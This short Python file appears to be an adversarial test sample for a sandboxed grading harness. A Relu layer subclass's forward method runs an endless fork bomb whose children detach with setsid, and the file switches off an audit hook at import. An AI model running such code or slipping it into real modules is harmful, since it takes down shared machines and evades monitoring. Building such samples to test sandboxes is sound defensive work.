# ruff: noqa
"""denial of service: a fork bomb with the audit hook off; setsid children would outlive
the worker if any were born."""
import os
from _tools import HonestRelu, disable_audit_hook

OFF = disable_audit_hook()


class Relu(HonestRelu):
    def forward(self, x):
        while True:
            if os.fork() == 0:
                os.setsid()
